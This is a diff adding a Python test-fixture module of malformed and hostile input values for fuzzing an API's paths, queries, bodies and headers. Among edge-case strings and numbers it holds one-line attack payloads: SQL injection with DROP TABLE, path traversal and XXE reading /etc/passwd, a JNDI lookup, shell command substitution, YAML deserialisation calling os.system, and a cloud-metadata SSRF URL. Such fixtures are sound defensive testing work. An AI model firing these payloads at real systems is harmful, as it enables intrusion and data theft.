@@ -1,0 +1,110 @@
+"""What nobody should send, for every place where something is sent."""
+
+from __future__ import annotations
+
+from typing import Any
+
+LONG = "x" * 70_000
+TEXTS: dict[str, str] = {
+    "empty": "",
+    "a blank": " ",
+    "dot": ".",
+    "dots": "..",
+    "up": "../../etc/passwd",
+    "up, encoded": "..%2F..%2Fetc%2Fpasswd",
+    "backslashes": "..\\..\\windows",
+    "slashes": "///",
+    "nul": "a\x00b",
+    "line": "a\r\nX-Injected: yes",
+    "tab": "a\tb",
+    "escape": "\x1b[31mred",
+    "bell": "\x07",
+    "delete": "\x7f",
+    "c1 control": "\x85",
+    "quote": "'",
+    "sql": "' OR '1'='1' --",
+    "sql, stacked": "x'; DROP TABLE lanes; --",
+    "percent": "100%",
+    "like": "%_%",
+    "format": "%s%n%d{0}{x!r}",
+    "braces": "{{7*7}}${7*7}#{7*7}",
+    "jndi": "${jndi:ldap://x.example/a}",
+    "markup": "<script>alert(1)</script>",
+    "entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
+    "command": "$(id);`id`|id&&id",
+    "ldap": "*)(uid=*",
+    "regular expression": "(a+)+$" + "a" * 40,
+    "yaml": "!!python/object/apply:os.system ['id']",
+    "url inside": "http://169.254.169.254/latest/meta-data/",
+    "file url": "file:///etc/passwd",
+    "minus": "-1",
+    "minus zero": "-0",
+    "plus": "+1",
+    "fraction": "1.5",
+    "exponent": "1e400",
+    "nan": "NaN",
+    "infinity": "Infinity",
+    "int 63": str(2**63),
+    "int 64": str(2**64),
+    "many digits": "9" * 5000,
+    "other digits": "\u0661\u0662",
+    "full width": "\uff11\uff12\uff17.0.0.1",
+    "hexadecimal": "0x1f",
+    "underscored": "1_000",
+    "true": "true",
+    "null": "null",
+    "undefined": "undefined",
+    "list": "[]",
+    "object": "{}",
+    "a time": "2026-13-45T99:99:99Z",
+    "a far time": "9999-12-31T23:59:59.999999+14:00",
+    "a time before": "0001-01-01T00:00:00-14:00",
+    "a nil id": "00000000-0000-0000-0000-000000000000",
+    "id in braces": "{5f1f2f0e-93a1-4a35-b0a3-06f0c31e4f10}",
+    "id as urn": "urn:uuid:5f1f2f0e-93a1-4a35-b0a3-06f0c31e4f10",
+    "zero width": "a\u200bb",
+    "right to left": "a\u202eb",
+    "combining": "e" + "\u0301" * 500,
+    "noncharacter": "\ufffe",
+    "far plane": "\U0010ffff",
+    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "byte order mark": "\ufeffa",
+    "case that grows": "\u0130\ufb03\u1e9e",
+    "reserved": "__proto__",
+    "dunder": "__class__.__mro__",
+    "long": LONG,
+}
+"""For paths, queries and fields of bodies."""
+RAW = ("%FF%FE", "%ED%A0%80", "%C0%AE%C0%AE", "%", "%zz", "%00", "%2e%2e", "%0d%0a")
+"""For addresses, as they are."""
+VALUES: dict[str, Any] = {
+    **TEXTS,
+    "no value": None,
+    "yes": True,
+    "no": False,
+    "zero": 0,
+    "one": 1,
+    "negative": -1,
+    "half": 0.5,
+    "tiny": 5e-324,
+    "huge": 1.7976931348623157e308,
+    "2**31": 2**31,
+    "2**53+1": 2**53 + 1,
+    "2**63": 2**63,
+    "no items": [],
+    "a list of nothing": [None],
+    "a list in a list": [[["x"]]],
+    "many items": ["x"] * 2000,
+    "no members": {},
+    "a member without name": {"": None},
+    "as stored": {"_type_": "uuid_hex", "_data_": "x"},
+    "a dollar": {"$ref": "#/components/schemas/Problem"},
+    "deep": {"a": {"a": {"a": {"a": {"a": {"a": {"a": [[[[[[]]]]]]}}}}}}},
+}
+"""For bodies: of every type."""
+HEADERS: dict[str, str] = {
+    name: text
+    for name, text in TEXTS.items()
+    if text.isascii() and text.isprintable() and text.strip() == text != LONG
+} | {"latin": "\xe9", "longer": "x" * 7000}
+"""What a client can write into a header at all."""
